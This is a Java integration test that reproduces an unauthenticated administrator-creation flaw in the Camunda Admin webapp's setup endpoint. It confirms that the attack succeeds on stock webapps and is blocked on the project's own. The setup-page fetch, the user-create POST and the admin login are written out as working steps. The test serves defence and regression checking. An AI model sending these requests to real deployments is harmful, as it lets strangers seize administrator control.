package org.throughline.workflow.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.List;
import org.camunda.bpm.admin.Admin;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.identity.User;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.throughline.testing.SignedIn;
import org.throughline.testing.TestDatabase;
import org.throughline.testing.ThroughlineTest;
import org.throughline.workflow.Accounts;

/**
 * CVE-2026-77226: the set-up of the Admin webapp looks only for direct members of the group camunda-admin. Where administrators are made another
 * way, it takes anybody's word, without a sign-in. The same attack on the webapps as they come from their makers, where it succeeds, and on ours.
 */
@ThroughlineTest
class BareWebappsIT {

    private static final String PASSWORD = BareWebapps.PASSWORD;
    private static final String EVE = "{\"profile\":{\"id\":\"eve\",\"firstName\":\"Eve\",\"lastName\":\"E\"},\"credentials\":{\"password\":\"" + PASSWORD + "\"}}";

    @LocalServerPort private int here;
    @Autowired private IdentityService ours;
    @Autowired private Accounts accounts;

    /** Without a sign-in: the page of the set-up for its token, then the administrator. */
    private static int setUp(int port, String engine) {
        SignedIn eve = SignedIn.nobody(port);
        eve.get("/camunda/app/admin/" + engine + "/setup/");
        return eve.send("POST", "/camunda/api/admin/setup/" + engine + "/user/create", EVE).statusCode();
    }

    private static HttpResponse<String> signedIn(SignedIn eve, int port, String engine) {
        eve.get("/camunda/app/admin/" + engine + "/");
        return eve.send("POST", "/camunda/api/admin/auth/user/" + engine + "/login/admin", "username=eve&password=" + PASSWORD.replace(' ', '+'), "Content-Type", "application/x-www-form-urlencoded");
    }

    @Test
    void anybodyMakesThemselvesAnAdministratorThereThoughThereIsOneAndNobodyHere() throws Exception {
        try (BareWebapps bare = BareWebapps.start(TestDatabase.get().another("barewebapps").ownerLogin())) {
            assertThat(setUp(bare.port(), "bare")).as("bare: made, by nobody").isEqualTo(204);
            SignedIn eve = SignedIn.nobody(bare.port());
            assertThat(signedIn(eve, bare.port(), "bare").body()).contains("\"userId\":\"eve\"", "\"admin\"", "\"cockpit\"");
            assertThat(eve.get("/camunda/api/engine/engine/bare/user").body()).as("and reads, and changes, whoever was there").contains("\"root\"");
        }

        List<User> members = ours.createUserQuery().memberOfGroup(Accounts.ADMINISTRATORS).list();
        members.forEach(member -> ours.deleteMembership(member.getId(), Accounts.ADMINISTRATORS));
        try {
            assertThat(accounts.anybodyAdministers()).as("ours as weak as it can be").isFalse();
            assertThat(setUp(here, "default")).isIn(401, 403);
            assertThat(signedIn(SignedIn.nobody(here), here, "default").statusCode()).isIn(401, 403);
            assertThat(ours.createUserQuery().userId("eve").count()).isZero();
        } finally {
            members.forEach(member -> ours.createMembership(member.getId(), Accounts.ADMINISTRATORS));
        }
        SignedIn worker = SignedIn.as(here, signsIn(), PASSWORD);
        assertThat(worker.get("/camunda/api/engine/engine/default/task?assignee=bareworker").statusCode()).as("our own webapps go on").isEqualTo(200);
        assertThat(worker.post("/camunda/api/admin/setup/default/user/create", EVE).statusCode()).isEqualTo(404);
    }

    private String signsIn() {
        accounts.set("bareworker", "Wanda", "Worker", PASSWORD, false);
        return "bareworker";
    }
}
